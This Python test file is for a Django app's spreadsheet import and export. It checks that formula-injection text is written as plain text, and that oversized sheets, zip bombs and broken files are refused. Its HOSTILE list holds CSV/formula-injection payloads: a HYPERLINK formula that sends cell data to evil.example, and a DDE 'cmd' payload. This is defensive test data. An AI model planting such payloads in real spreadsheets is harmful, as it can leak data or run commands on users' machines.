"""Spreadsheet reading and writing: exports never carry a formula from free text (issue 17.6)."""

import io
import zipfile

import pytest
from django.test import override_settings
from openpyxl import load_workbook

from sotay.core.errors import DomainError
from sotay.members.spreadsheets import read_rows, write_xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
]


def test_free_text_that_looks_like_a_formula_is_written_as_text() -> None:
    data = write_xlsx("Ý kiến", ["Nội dung", "Số"], [[text, 5] for text in HOSTILE])
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    ws = load_workbook(io.BytesIO(data)).active
    cells = [row[0] for row in ws.iter_rows(min_row=2)]
    assert [c.value for c in cells] == HOSTILE
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    assert ws["B2"].value == 5 and ws["B2"].data_type == "n"  # real numbers stay numbers


def _xlsx(cells: dict[str, object]) -> bytes:
    from openpyxl import Workbook

    wb = Workbook()
    for ref, value in cells.items():
        wb.active[ref] = value
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def test_a_far_cell_is_read_by_real_cells_not_as_a_dense_grid() -> None:
    # 5 KB: a dense grid of this sheet is 16,384 × 1,048,576 cells (it aborted the worker).
    data = _xlsx({"A1": "Họ và tên", "B2": "x", "XFD1048576": "xa"})
    assert len(data) < 10_000
    rows = list(read_rows(data, "ds.xlsx"))
    assert rows[0][0] == "Họ và tên" and rows[1][1] == "x"
    assert max(len(r) for r in rows) <= 100 and len(rows) <= 200_000


@override_settings(SOTAY_IMPORT_MAX_ROWS=50)
def test_real_rows_past_the_limit_are_refused_with_a_message() -> None:
    data = _xlsx({f"A{i}": f"dòng {i}" for i in range(1, 60)})
    with pytest.raises(DomainError, match="hơn 50 dòng"):
        list(read_rows(data, "ds.xlsx"))
    assert len(list(read_rows(_xlsx({"A1": "a", "A50": "b"}), "ds.xlsx"))) == 50


@override_settings(SOTAY_IMPORT_MAX_UNPACKED_BYTES=100_000)
def test_a_zip_bomb_is_refused_before_it_is_unpacked() -> None:
    data = _xlsx({"A1": "x" * 30_000, "A2": "y" * 30_000, "A3": "z" * 30_000, "A4": "w" * 30_000})
    with pytest.raises(DomainError, match="giải nén quá lớn"):
        list(read_rows(data, "ds.xlsx"))


def test_broken_files_get_a_message() -> None:
    for data in [b"PK\x03\x04rubbish", _xlsx({"A1": "x"})[:-200], b"not a zip"]:
        with pytest.raises(DomainError):
            list(read_rows(data, "ds.xlsx"))
